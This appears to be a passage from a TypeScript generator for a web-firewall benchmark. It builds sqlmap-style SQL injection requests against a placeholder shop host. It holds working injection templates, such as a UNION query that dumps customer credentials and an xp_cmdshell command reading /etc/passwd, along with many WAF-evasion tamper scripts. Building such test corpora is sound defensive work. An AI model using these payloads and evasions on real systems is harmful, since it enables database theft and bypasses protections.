/**
 * An attack corpus shaped the way the common attack TOOLS build their requests, not the way
 * payload lists write them: sqlmap (techniques per DBMS, its prefix/suffix boundaries around
 * the original value, its tamper scripts, alone and chained), OWASP ZAP and Burp active-scan
 * probes, XSStrike/dalfox XSS, commix command injection, tplmap/SSTImap template injection,
 * NoSQLMap, LFI/wrapper probes and nuclei-style CVE probes. Each payload is placed where the
 * tool puts it (after the original value of a query parameter, a form field, a JSON leaf, a
 * cookie, a header, a path segment) with the tool's own percent-encoding.
 * Written from knowledge of how each tool composes its payloads (public documentation and
 * observed traffic shapes), never from a tool's source or data files, and committed before
 * the engine was run on it. Every request carries its labels: tool, class, technique,
 * variant (tamper or encoding), position, the injected value and whether it is in the hold-out.
 * The tools' own User-Agents are replaced by browser ones (as `--random-agent` does), so a
 * verdict rests on the payload, not on a scanner signature.
 * Run: npx tsx bench/waf/corpora/generate-tool-payloads.ts  (writes tool-payloads.ndjson)
 * @module
 */
import { writeFileSync } from 'node:fs'
import type { WafRequest } from '../../../packages/core/src/waf/index.ts'
import { browserUserAgents, fnv1a, seededText } from './seeded-text.ts'

const SEED = 20261127
const { rand, pick, int, hex, alnum } = seededText(SEED)
const UAS = browserUserAgents()
const HOST = 'shop.example'

export type Position = 'query' | 'form' | 'json' | 'cookie' | 'header' | 'path'
export interface ToolRequest extends WafRequest {
  id: string
  tool: string
  class: string
  technique: string
  /** The tamper script(s), obfuscation or encoding applied; `none` when the payload is sent as composed. */
  variant: string
  position: Position
  /** The parameter value as the tool composed it, before its transport encoding. */
  payload: string
  /** Shape key the hold-out is drawn from: one template with one variant, whatever its random numbers. */
  shape: string
  holdout: boolean
}

// --- Transport encodings ------------------------------------------------------------------

const pctByte = (b: number): string => `%${b.toString(16).toUpperCase().padStart(2, '0')}`
/** Percent-encodes every UTF-8 byte of a character outside `keep`; `%XX` already in the text stays when `pre` is set. */
function pct(value: string, keep: RegExp, pre: boolean, space = '%20'): string {
  let out = ''
  for (let i = 0; i < value.length; i++) {
    const ch = value[i]!
    if (pre && ch === '%' && /^%(?:[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})/.test(value.slice(i, i + 6))) out += ch
    else if (ch === ' ') out += space
    else if (keep.test(ch)) out += ch
    else for (const b of Buffer.from(ch, 'utf8')) out += pctByte(b)
  }
  return out
}
/** How each tool's HTTP stack writes a parameter value into a URL or form body. */
export type Encoding = 'sqlmap' | 'form' | 'minimal' | 'raw'
function encodeValue(v: string, enc: Encoding, pre: boolean): string {
  switch (enc) {
    // sqlmap: spaces as %20; once a tamper script is on, every `%` (its own `%XX`, the `%S%E…` of
    // `percentage`) and `+` (space2plus) is left as written.
    case 'sqlmap':
      return pct(v, pre ? /[A-Za-z0-9\-._~+%]/ : /[A-Za-z0-9\-._~]/, pre)
    // Python's quote_plus and Java's URLEncoder (ZAP, tplmap, dalfox's Go QueryEscape): spaces as +.
    case 'form':
      return pct(v, /[A-Za-z0-9\-._*]/, pre, '+')
    // Burp and commix: only what would break the request line or the parameter list is escaped.
    case 'minimal':
      return pct(v, /[A-Za-z0-9\-._~!$'()*,:@/?[\]{}|\\^`<>"]/, pre)
    case 'raw':
      return v
  }
}

// --- Placement ----------------------------------------------------------------------------

const baseHeaders = (): Record<string, string> => ({
  host: HOST,
  'user-agent': pick(UAS),
  accept: pick(['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', '*/*', 'application/json, text/plain, */*']),
  'accept-language': pick(['en-US,en;q=0.9', 'en-GB,en;q=0.8', 'de-DE,de;q=0.9,en;q=0.5']),
  'accept-encoding': 'gzip, deflate',
})
const session = (): string => `PHPSESSID=${hex(26)}; _ga=GA1.2.${int(100000000, 999999999)}.${int(1690000000, 1710000000)}`

interface Slot {
  /** Parameter (or header, cookie, JSON key) name the tool injects into. */
  name: string
  /** Value the application put there, which boundary payloads are appended to. */
  original: string
}
const PAGES: Record<Position, string[]> = {
  query: ['/product.php', '/catalog/item', '/search', '/index.php', '/shop/category', '/api/v1/products', '/news.asp', '/listing.jsp'],
  form: ['/login', '/account/login.php', '/contact', '/checkout/address', '/newsletter/subscribe', '/admin/login.aspx'],
  json: ['/api/cart', '/api/v2/orders/search', '/graphql-lite/products', '/api/login', '/api/reviews'],
  cookie: ['/', '/account', '/cart', '/index.php'],
  header: ['/', '/index.php', '/api/v1/status', '/login'],
  path: ['/product', '/api/v1/items', '/category', '/blog/post', '/download'],
}

/**
 * One request with `value` (the whole parameter value: original plus injection) where the tool puts it.
 * A JSON number the application sent is replaced as raw text when `rawJson` is set, as sqlmap does
 * for numeric JSON values (the body is then no longer valid JSON).
 */
function place(at: Position, slot: Slot, value: string, enc: Encoding, pre: boolean, rawJson = false): WafRequest {
  const headers = baseHeaders()
  const page = pick(PAGES[at])
  const other = pick(['', `&lang=en`, `&page=${int(1, 9)}`, `&sort=price&dir=asc`, `&cat=${int(1, 40)}`])
  switch (at) {
    case 'query':
      return { method: 'GET', uri: `${page}?${slot.name}=${encodeValue(value, enc, pre)}${other}`, headers: { ...headers, cookie: session() } }
    case 'form': {
      const others = pick([[['submit', 'Login']], [['remember', '1']], [['csrf_token', hex(32)]], []] as Array<Array<[string, string]>>)
      const body = [`${slot.name}=${encodeValue(value, enc === 'sqlmap' || enc === 'raw' ? enc : 'form', pre)}`, ...others.map(([k, v]) => `${k}=${v}`)].join('&')
      return { method: 'POST', uri: page, headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded', cookie: session() }, body }
    }
    case 'json': {
      const doc = { [slot.name]: '\u0000V\u0000', currency: 'EUR', items: [{ sku: `SKU-${int(1000, 9999)}`, qty: int(1, 3) }] }
      const text = JSON.stringify(doc)
      const body = rawJson ? text.replace('"\\u0000V\\u0000"', value) : text.replace('"\\u0000V\\u0000"', JSON.stringify(value))
      return { method: 'POST', uri: page, headers: { ...headers, 'content-type': 'application/json' }, body }
    }
    case 'cookie':
      return { method: 'GET', uri: page, headers: { ...headers, cookie: `${session()}; ${slot.name}=${encodeValue(value, enc === 'raw' ? 'minimal' : enc, pre).replaceAll(';', '%3B')}` } }
    case 'header':
      return { method: 'GET', uri: page, headers: { ...headers, [slot.name]: value } }
    case 'path': {
      const tail = pick(['', '/reviews', '/details', '.html'])
      return { method: 'GET', uri: `${page}/${encodeValue(value, enc, pre).replaceAll('?', '%3F').replaceAll('#', '%23')}${tail}`, headers }
    }
  }
}

const out: ToolRequest[] = []
function emit(tool: string, cls: string, technique: string, variant: string, shape: string, payload: string, at: Position, req: WafRequest): void {
  const key = `${tool}|${shape}|${variant}`
  out.push({ id: '', tool, class: cls, technique, variant, position: at, payload, shape: key, holdout: fnv1a(key) % 10 < 3, ...req })
}
/** Positions drawn by weight. */
function drawPosition(weights: ReadonlyArray<readonly [Position, number]>): Position {
  const total = weights.reduce((s, [, w]) => s + w, 0)
  let r = rand() * total
  for (const [p, w] of weights) {
    r -= w
    if (r < 0) return p
  }
  return weights[0]![0]
}

// --- sqlmap --------------------------------------------------------------------------------

const rnum = (): string => String(int(1000, 9999))
const rstr = (): string => Array.from({ length: 4 }, () => pick([...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'])).join('')
/** sqlmap's result markers: `q` + three letters + `q`, written per DBMS. */
const marker = (): string => `q${Array.from({ length: 3 }, () => pick([...'bjkpvxz'])).join('')}q`
const mysqlHex = (s: string): string => `0x${Buffer.from(s).toString('hex')}`
const chrConcat = (s: string): string => `(${[...s].map((c) => `CHR(${c.charCodeAt(0)})`).join('||')})`
const charPlus = (s: string): string => [...s].map((c) => `CHAR(${c.charCodeAt(0)})`).join('+')

interface SqlTemplate {
  technique: 'boolean' | 'error' | 'union' | 'stacked' | 'time' | 'inline' | 'heuristic' | 'waf-probe'
  dbms: string
  name: string
  /** The payload; placeholders filled per request. */
  text: string
  /** Where sqlmap puts it: 1 after the original value, 2 after a negative original, 3 instead of it. */
  where: 1 | 2 | 3
  /** A technique that ends the query with a comment itself (UNION, stacked). */
  comment?: boolean
}
const T = (technique: SqlTemplate['technique'], dbms: string, name: string, text: string, where: 1 | 2 | 3 = 1, comment = false): SqlTemplate => ({ technique, dbms, name, text, where, comment })
const ELT = 'ELT([R]=[R],1)'
const SQL_TEMPLATES: SqlTemplate[] = [
  T('boolean', 'generic', 'and', 'AND [R]=[R]'),
  T('boolean', 'generic', 'and-false', 'AND [R]=[R2]'),
  T('boolean', 'generic', 'or', 'OR [R]=[R]', 2),
  T('boolean', 'generic', 'or-not', 'OR NOT [R]=[R2]'),
  T('boolean', 'generic', 'and-subquery', 'AND [R]=(SELECT (CASE WHEN ([R]=[R]) THEN [R] ELSE (SELECT [R2] UNION SELECT [R3]) END))'),
  T('boolean', 'mysql', 'rlike', 'RLIKE (SELECT (CASE WHEN ([R]=[R]) THEN [ORIG] ELSE 0x28 END))'),
  T('boolean', 'mysql', 'elt', 'AND ELT([R]=[R],[R2])'),
  T('boolean', 'mysql', 'make-set', 'AND MAKE_SET([R]=[R],[R2])'),
  T('boolean', 'mysql', 'or-make-set', 'OR MAKE_SET([R]=[R],[R2])', 2),
  T('boolean', 'postgresql', 'cast-null', 'AND (SELECT (CASE WHEN ([R]=[R]) THEN NULL ELSE CAST(([QC]) AS NUMERIC) END)) IS NULL'),
  T('boolean', 'mssql', 'convert-null', 'AND (SELECT (CASE WHEN ([R]=[R]) THEN NULL ELSE CONVERT(INT,(SELECT [QM])) END)) IS NULL'),
  T('boolean', 'oracle', 'drithsx-null', 'AND (SELECT (CASE WHEN ([R]=[R]) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,[R]) END) FROM DUAL) IS NULL'),
  T('boolean', 'generic', 'order-by-case', ',(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE [R]*(SELECT [R] FROM INFORMATION_SCHEMA.PLUGINS) END))'),
  T('error', 'mysql', 'extractvalue', `AND EXTRACTVALUE([R],CONCAT(0x5c,[QS],(SELECT (${ELT})),[QE]))`),
  T('error', 'mysql', 'updatexml', `AND UPDATEXML([R],CONCAT(0x2e,[QS],(SELECT (${ELT})),[QE]),[R2])`),
  T('error', 'mysql', 'floor', `OR (SELECT [R] FROM(SELECT COUNT(*),CONCAT([QS],(SELECT (${ELT})),[QE],FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)`),
  T('error', 'mysql', 'exp', `AND EXP(~(SELECT * FROM (SELECT CONCAT([QS],(SELECT (${ELT})),[QE],0x78))x))`),
  T('error', 'mysql', 'bigint', `AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT([QS],(SELECT (${ELT})),[QE],0x78))s), 8446744073709551610, 8446744073709551610)))`),
  T('error', 'mysql', 'gtid-subset', `AND GTID_SUBSET(CONCAT([QS],(SELECT (${ELT})),[QE]),[R])`),
  T('error', 'mysql', 'json-keys', `AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT([QS],(SELECT (${ELT})),[QE])) USING utf8)))`),
  T('error', 'mysql', 'row-floor', 'AND ROW([R],[R2])>(SELECT COUNT(*),CONCAT([QS],(SELECT (ELT([R]=[R],1))),[QE],FLOOR(RAND(0)*2))x FROM (SELECT [R3] UNION SELECT [R4] UNION SELECT [R5] UNION SELECT [R6])a GROUP BY x)'),
  T('error', 'mysql', 'extract-user', 'AND EXTRACTVALUE([R],CONCAT(0x5c,[QS],(SELECT MID((IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)),1,21)),[QE]))'),
  T('error', 'mysql', 'extract-schema', 'AND UPDATEXML([R],CONCAT(0x2e,[QS],(SELECT MID((IFNULL(CAST(schema_name AS NCHAR),0x20)),1,21) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 1,1),[QE]),[R2])'),
  T('error', 'postgresql', 'cast-numeric', 'AND [R]=CAST([QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END))::text||[QEC] AS NUMERIC)'),
  T('error', 'postgresql', 'cast-user', 'AND [R]=CAST([QC]||(COALESCE(CAST(CURRENT_USER AS VARCHAR(10000))::text,(CHR(32))))::text||[QEC] AS NUMERIC)'),
  T('error', 'mssql', 'in-select', 'AND [R] IN (SELECT ([QM]+(SELECT (CASE WHEN ([R]=[R]) THEN CHAR(49) ELSE CHAR(48) END))+[QEM]))'),
  T('error', 'mssql', 'convert', 'AND [R]=CONVERT(INT,(SELECT [QM]+(SELECT (CASE WHEN ([R]=[R]) THEN CHAR(49) ELSE CHAR(48) END))+[QEM]))'),
  T('error', 'mssql', 'concat', 'AND [R]=CONCAT([QM],(SELECT (CASE WHEN ([R]=[R]) THEN CHAR(49) ELSE CHAR(48) END)),[QEM])'),
  T('error', 'mssql', 'convert-user', 'AND [R] IN (SELECT ([QM]+(SELECT SUBSTRING((ISNULL(CAST(SYSTEM_USER AS NVARCHAR(4000)),CHAR(32))),1,1024))+[QEM]))'),
  T('error', 'oracle', 'drithsx', 'AND [R]=CTXSYS.DRITHSX.SN([R],([QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END) FROM DUAL)||[QEC]))'),
  T('error', 'oracle', 'xmltype', 'AND [R]=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||[QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END) FROM DUAL)||[QEC]||CHR(62))) FROM DUAL)'),
  T('error', 'oracle', 'utl-inaddr', 'AND [R]=UTL_INADDR.GET_HOST_ADDRESS([QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END) FROM DUAL)||[QEC])'),
  T('error', 'oracle', 'sqlid-to-sqlhash', 'AND [R]=DBMS_UTILITY.SQLID_TO_SQLHASH(([QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END) FROM DUAL)||[QEC]))'),
  T('union', 'generic', 'nulls', 'UNION ALL SELECT [NULLS]', 1, true),
  T('union', 'generic', 'nulls-neg', 'UNION ALL SELECT [NULLS]', 2, true),
  T('union', 'mysql', 'concat-marker', 'UNION ALL SELECT [COLS:CONCAT([QS],[HEX],[QE])]', 1, true),
  T('union', 'mysql', 'concat-marker-neg', 'UNION ALL SELECT [COLS:CONCAT([QS],[HEX],[QE])]', 2, true),
  T('union', 'mysql', 'current-user', 'UNION ALL SELECT [COLS:CONCAT([QS],IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20),[QE])]', 2, true),
  T('union', 'mysql', 'tables', 'UNION ALL SELECT [COLS:CONCAT([QS],IFNULL(CAST(table_name AS NCHAR),0x20),[QE])] FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN ([SCHEMA])', 2, true),
  T('union', 'mysql', 'dump', 'UNION ALL SELECT [COLS:CONCAT([QS],JSON_ARRAYAGG(CONCAT_WS(0x6b6a6b,email,password)),[QE])] FROM shop.customers', 2, true),
  T('union', 'postgresql', 'chr-marker', 'UNION ALL SELECT [COLS:[QC]||[HEXC]||[QEC]]', 1, true),
  T('union', 'mssql', 'char-marker', 'UNION ALL SELECT [COLS:[QM]+[HEXM]+[QEM]]', 1, true),
  T('union', 'oracle', 'chr-marker-dual', 'UNION ALL SELECT [COLS:[QC]||[HEXC]||[QEC]] FROM DUAL', 1, true),
  T('union', 'generic', 'order-by', 'ORDER BY [N]', 1, true),
  T('stacked', 'mysql', 'sleep', ';SELECT SLEEP([D])', 1, true),
  T('stacked', 'mysql', 'sleep-subquery', ';(SELECT * FROM (SELECT(SLEEP([D])))[S])', 1, true),
  T('stacked', 'postgresql', 'pg-sleep', ';SELECT PG_SLEEP([D])', 1, true),
  T('stacked', 'postgresql', 'pg-sleep-case', ';SELECT (CASE WHEN ([R]=[R]) THEN (SELECT [R] FROM PG_SLEEP([D])) ELSE [R] END)', 1, true),
  T('stacked', 'mssql', 'waitfor', ";WAITFOR DELAY '0:0:[D]'", 1, true),
  T('stacked', 'mssql', 'if-waitfor', ";IF([R]=[R]) WAITFOR DELAY '0:0:[D]'", 1, true),
  T('stacked', 'oracle', 'dbms-lock', ';BEGIN DBMS_LOCK.SLEEP([D]); END', 1, true),
  T('stacked', 'oracle', 'dbms-pipe', ';SELECT DBMS_PIPE.RECEIVE_MESSAGE([RC],[D]) FROM DUAL', 1, true),
  T('stacked', 'sqlite', 'randomblob', ';SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))', 1, true),
  T('time', 'mysql', 'sleep-subquery', 'AND (SELECT [R] FROM (SELECT(SLEEP([D])))[S])'),
  T('time', 'mysql', 'or-sleep-subquery', 'OR (SELECT [R] FROM (SELECT(SLEEP([D])))[S])'),
  T('time', 'mysql', 'sleep', 'AND SLEEP([D])'),
  T('time', 'mysql', 'or-sleep', 'OR SLEEP([D])'),
  T('time', 'mysql', 'rlike-sleep', 'RLIKE SLEEP([D])'),
  T('time', 'mysql', 'if-sleep', 'AND (SELECT [R] FROM (SELECT(SLEEP([D]-(IF([R]=[R],0,[D])))))[S])'),
  T('time', 'mysql', 'benchmark', 'AND [R]=BENCHMARK(5000000,MD5([HEX8]))'),
  T('time', 'postgresql', 'pg-sleep', 'AND [R]=(SELECT [R] FROM PG_SLEEP([D]))'),
  T('time', 'postgresql', 'pg-sleep-case', 'AND [R]=(CASE WHEN ([R]=[R]) THEN (SELECT [R] FROM PG_SLEEP([D])) ELSE [R] END)'),
  T('time', 'postgresql', 'generate-series', 'AND [R]=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))'),
  T('time', 'mssql', 'waitfor', "WAITFOR DELAY '0:0:[D]'"),
  T('time', 'mssql', 'if-waitfor', "IF([R]=[R]) WAITFOR DELAY '0:0:[D]'"),
  T('time', 'mssql', 'heavy', 'AND [R]=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6,sysusers AS sys7)'),
  T('time', 'oracle', 'dbms-pipe', 'AND [R]=DBMS_PIPE.RECEIVE_MESSAGE([RC],[D])'),
  T('time', 'oracle', 'dbms-pipe-case', 'AND [R]=(CASE WHEN ([R]=[R]) THEN DBMS_PIPE.RECEIVE_MESSAGE([RC],[D]) ELSE [R] END)'),
  T('time', 'oracle', 'heavy', 'AND [R]=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)'),
  T('time', 'sqlite', 'randomblob', 'AND [R]=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))'),
  T('inline', 'mysql', 'concat-elt', '(SELECT CONCAT([QS],(SELECT (ELT([R]=[R],1))),[QE]))', 3),
  T('inline', 'postgresql', 'chr-case', '(SELECT [QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END))::text||[QEC])', 3),
  T('inline', 'mssql', 'char-case', '(SELECT [QM]+(SELECT (CASE WHEN ([R]=[R]) THEN CHAR(49) ELSE CHAR(48) END))+[QEM])', 3),
  T('inline', 'oracle', 'chr-case-dual', '(SELECT [QC]||(SELECT (CASE WHEN ([R]=[R]) THEN 1 ELSE 0 END) FROM DUAL)||[QEC] FROM DUAL)', 3),
  T('inline', 'generic', 'case-plugins', '(SELECT (CASE WHEN ([R]=[R]) THEN [ORIG] ELSE [R]*(SELECT [R] FROM INFORMATION_SCHEMA.PLUGINS) END))', 3),
  T('heuristic', 'generic', 'syntax-chars', '[HEUR]'),
  T('heuristic', 'generic', 'dummy-appendix', "'[S]<'\">[S]"),
  T('waf-probe', 'generic', 'ips-check', "AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#"),
]

interface Boundary {
  prefix: string
  suffix: string
  /** The original value a string context holds (`shoes`) instead of a number. */
  text: boolean
}
const B = (prefix: string, suffix: string, text = false): Boundary => ({ prefix, suffix, text })
const BOUNDARIES: Boundary[] = [
  B('', ''),
  B('', '-- [S]'),
  B('', '-- -'),
  B('', '#'),
  B(')', ' AND ([R9]=[R9]'),
  B('))', ' AND (([R9]=[R9]'),
  B(')', '-- -'),
  B("'", " AND '[S9]'='[S9]", true),
  B("')", " AND ('[S9]'='[S9]", true),
  B("'))", " AND (('[S9]'='[S9]", true),
  B("%'", " AND '[S9]%'='[S9]", true),
  B('"', ' AND "[S9]"="[S9]', true),
  B('")', ' AND ("[S9]"="[S9]', true),
  B("'", '-- -', true),
  B("'", '-- [S]', true),
  B("'", '#', true),
  B("')", '-- -', true),
  B('"', '-- -', true),
  B('"', '#', true),
  B("%'", '-- -', true),
]
/** UNION and stacked techniques end the query with a comment: only the comment boundaries fit them. */
const COMMENT_BOUNDARIES = BOUNDARIES.filter((b) => /^(?:-- |#)/.test(b.suffix))

const SQL_KEYWORDS = new Set('AND OR NOT SELECT UNION ALL FROM WHERE CASE WHEN THEN ELSE END NULL IS IN AS LIKE RLIKE ORDER BY GROUP LIMIT WAITFOR DELAY IF BEGIN DUAL USING NCHAR INT NUMERIC TEXT VARCHAR NVARCHAR EXEC'.split(' '))
const isWordChar = (c: string | undefined): boolean => c !== undefined && /[A-Za-z0-9_]/.test(c)
/** Rewrites each upper-case SQL word; `fn` is told whether a `(` follows (a function name). */
function mapWords(s: string, fn: (w: string, call: boolean) => string, only?: (w: string, call: boolean) => boolean): string {
  return s.replace(/\b[A-Z_][A-Z_0-9]+\b/g, (w, at: number) => {
    const call = s[at + w.length] === '('
    return (only ?? ((x: string) => SQL_KEYWORDS.has(x)))(w, call) ? fn(w, call) : w
  })
}
const randomCase = (w: string): string => [...w].map((c) => (rand() < 0.5 ? c.toLowerCase() : c.toUpperCase())).join('')
const blank = (chars: string[]) => (s: string) => s.replace(/ /g, () => pick(chars))
const everyWord = (w: string, call: boolean): boolean => SQL_KEYWORDS.has(w) || call

interface Tamper {
  name: string
  /** Output holds its own `%XX` (or `+` for spaces), which the transport keeps as written. */
  pre: boolean
  apply: (value: string) => string
  /** Tampers that only make sense for some payloads (e.g. one that rewrites `UNION`). */
  fits?: (value: string) => boolean
}
const TAMPERS: Tamper[] = [
  { name: 'space2comment', pre: false, apply: (s) => s.replaceAll(' ', '/**/') },
  { name: 'space2plus', pre: true, apply: (s) => s.replaceAll(' ', '+') },
  { name: 'space2randomblank', pre: false, apply: blank(['\t', '\n', '\f', '\r']) },
  { name: 'space2mssqlblank', pre: false, apply: blank(['\x01', '\x02', '\x03', '\x04', '\x05', '\x06', '\x07', '\x08', '\x09', '\x0b', '\x0c', '\x0d', '\x0e', '\x0f']) },
  { name: 'space2hash', pre: true, apply: (s) => s.replace(/ /g, () => `%23${rstr()}%0A`) },
  { name: 'space2mysqldash', pre: true, apply: (s) => s.replaceAll(' ', '--%0A') },
  { name: 'space2dash', pre: true, apply: (s) => s.replace(/ /g, () => `--${rstr()}%0A`) },
  { name: 'multiplespaces', pre: false, apply: (s) => s.replace(/ /g, () => ' '.repeat(int(2, 5))) },
  {
    name: 'between',
    pre: false,
    apply: (s) => s.replace(/\b(\w+) ?> ?(\w+)/g, '$1 NOT BETWEEN 0 AND $2').replace(/\b(\w+) ?= ?(\w+)\b/g, '$1 BETWEEN $2 AND $2'),
    fits: (s) => /\w ?[=>] ?\w/.test(s),
  },
  { name: 'greatest', pre: false, apply: (s) => s.replace(/\b(\w+) ?> ?(\w+)/g, 'GREATEST($1,$2+1)=$1'), fits: (s) => /\w ?> ?\w/.test(s) },
  { name: 'randomcase', pre: false, apply: (s) => mapWords(s, randomCase, everyWord) },
  { name: 'lowercase', pre: false, apply: (s) => mapWords(s, (w) => w.toLowerCase(), everyWord) },
  { name: 'charencode', pre: true, apply: (s) => [...Buffer.from(s, 'utf8')].map(pctByte).join('') },
  { name: 'chardoubleencode', pre: true, apply: (s) => [...Buffer.from(s, 'utf8')].map((b) => `%25${pctByte(b).slice(1)}`).join('') },
  { name: 'charunicodeencode', pre: true, apply: (s) => [...s].map((c) => `%u${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`).join('') },
  { name: 'equaltolike', pre: false, apply: (s) => s.replace(/ ?= ?/g, ' LIKE '), fits: (s) => s.includes('=') },
  { name: 'versionedkeywords', pre: false, apply: (s) => mapWords(s, (w) => `/*!${w}*/`, (w, call) => SQL_KEYWORDS.has(w) && !call).replace(/ ?(\/\*!\w+\*\/) ?/g, '$1') },
  { name: 'versionedmorekeywords', pre: false, apply: (s) => mapWords(s, (w) => `/*!${w}*/`, everyWord).replace(/ ?(\/\*!\w+\*\/) ?/g, '$1') },
  { name: 'halfversionedmorekeywords', pre: false, apply: (s) => mapWords(s, (w) => `/*!0${w}`, everyWord).replace(/ (\/\*!0)/g, '$1') },
  {
    name: 'modsecurityversioned',
    pre: false,
    apply: (s) => s.replace(/^([^ ]*) (.*?)((?:-- .*|#.*)?)$/, (_, head: string, body: string, tail: string) => `${head} /*!${int(30000, 50999)}${body}*/${tail || '--'}`),
    fits: (s) => s.includes(' '),
  },
  {
    name: 'modsecurityzeroversioned',
    pre: false,
    apply: (s) => s.replace(/^([^ ]*) (.*?)((?:-- .*|#.*)?)$/, (_, head: string, body: string, tail: string) => `${head} /*!00000${body}*/${tail || '--'}`),
    fits: (s) => s.includes(' '),
  },
  { name: 'apostrophemask', pre: true, apply: (s) => s.replaceAll("'", '%EF%BC%87'), fits: (s) => s.includes("'") },
  { name: 'apostrophenullencode', pre: true, apply: (s) => s.replaceAll("'", '%00%27'), fits: (s) => s.includes("'") },
  {
    name: 'unmagicquotes',
    pre: true,
    apply: (s) => s.replace("'", '%BF%27').replace(/ AND '[^']*'='[^']*$|(?:-- .*|#.*)$/, '') + '-- -',
    fits: (s) => s.includes("'"),
  },
  { name: 'percentage', pre: true, apply: (s) => s.replace(/[^ ]/g, (c) => (/[A-Za-z0-9]/.test(c) ? `%${c}` : c)) },
  { name: 'symboliclogical', pre: false, apply: (s) => s.replace(/ AND /gi, ' && ').replace(/ OR /gi, ' || '), fits: (s) => / (?:AND|OR) /.test(s) },
  { name: 'sp_password', pre: false, apply: (s) => (/-- .*$/.test(s) ? `${s} sp_password` : `${s}-- sp_password`) },
  { name: 'appendnullbyte', pre: true, apply: (s) => `${s}%00` },
  { name: 'base64encode', pre: false, apply: (s) => Buffer.from(s).toString('base64') },
  { name: 'htmlencode', pre: false, apply: (s) => s.replace(/[^A-Za-z0-9]/g, (c) => `&#${c.charCodeAt(0)};`) },
  { name: 'overlongutf8', pre: true, apply: (s) => s.replace(/[^A-Za-z0-9]/g, (c) => `%C0%${(0x80 | (c.charCodeAt(0) & 0x3f)).toString(16).toUpperCase()}`) },
  { name: 'informationschemacomment', pre: false, apply: (s) => s.replace(/INFORMATION_SCHEMA/gi, 'INFORMATION_SCHEMA/**/'), fits: (s) => /INFORMATION_SCHEMA/i.test(s) },
  {
    name: 'randomcomments',
    pre: false,
    apply: (s) => mapWords(s, (w) => {
      const k = int(1, w.length - 1)
      return `${w.slice(0, k)}/**/${w.slice(k)}`
    }, everyWord),
  },
  { name: '0eunion', pre: false, apply: (s) => s.replace(/(\d+) UNION /g, '$1e0UNION '), fits: (s) => /\d UNION /.test(s) },
  { name: 'dunion', pre: false, apply: (s) => s.replace(/(\d+) UNION /g, '$1DUNION '), fits: (s) => /\d UNION /.test(s) },
  { name: 'misunion', pre: false, apply: (s) => s.replace(/ UNION /g, '-.1UNION '), fits: (s) => / UNION /.test(s) },
  { name: 'unionalltounion', pre: false, apply: (s) => s.replaceAll('UNION ALL SELECT', 'UNION SELECT'), fits: (s) => s.includes('UNION ALL SELECT') },
  { name: 'sleep2getlock', pre: false, apply: (s) => s.replace(/SLEEP\((\d+)\)/g, (_, d: string) => `GET_LOCK('${rstr()}',${d})`), fits: (s) => /\bSLEEP\(/.test(s) },
  { name: 'concat2concatws', pre: false, apply: (s) => s.replaceAll('CONCAT(', 'CONCAT_WS(MID(CHAR(0),0,0),'), fits: (s) => s.includes('CONCAT(') },
  { name: 'escapequotes', pre: false, apply: (s) => s.replaceAll("'", "\\'").replaceAll('"', '\\"'), fits: (s) => /['"]/.test(s) },
  { name: 'bluecoat', pre: false, apply: (s) => mapWords(s, (w) => `${w}\t`, (w) => SQL_KEYWORDS.has(w)).replace(/\t /g, '\t').replace(/ ?= ?/g, ' LIKE ') },
]
/** Chains users commonly pass to `--tamper` against a WAF. */
const CHAINS = [
  'between,randomcase,space2comment',
  'space2comment,randomcase',
  'charencode,space2comment',
  'modsecurityversioned,space2comment',
  'versionedmorekeywords,space2comment',
  'equaltolike,space2randomblank',
  'apostrophemask,space2plus',
  'randomcase,space2mysqldash',
  'between,charunicodeencode',
  'halfversionedmorekeywords,space2comment',
  'symboliclogical,space2plus',
  'space2hash,randomcase',
]
const tamperByName = new Map(TAMPERS.map((t) => [t.name, t]))

function fillSql(text: string, orig: string, cols: number): string {
  const r = [rnum(), rnum(), rnum(), rnum(), rnum(), rnum()]
  const qs = marker()
  const qe = marker()
  const hx = alnum(int(20, 40))
  const pos = int(0, cols - 1)
  return text
    .replaceAll('[NULLS]', Array.from({ length: cols }, () => 'NULL').join(','))
    .replaceAll('[QS]', mysqlHex(qs))
    .replaceAll('[QE]', mysqlHex(qe))
    .replaceAll('[QC]', chrConcat(qs))
    .replaceAll('[QEC]', chrConcat(qe))
    .replaceAll('[QM]', charPlus(qs))
    .replaceAll('[QEM]', charPlus(qe))
    .replaceAll('[HEX]', mysqlHex(hx))
    .replaceAll('[HEXC]', chrConcat(hx.slice(0, 12)))
    .replaceAll('[HEXM]', charPlus(hx.slice(0, 12)))
    .replaceAll('[HEX8]', mysqlHex(rstr()))
    .replaceAll('[RC]', chrConcat(rstr()))
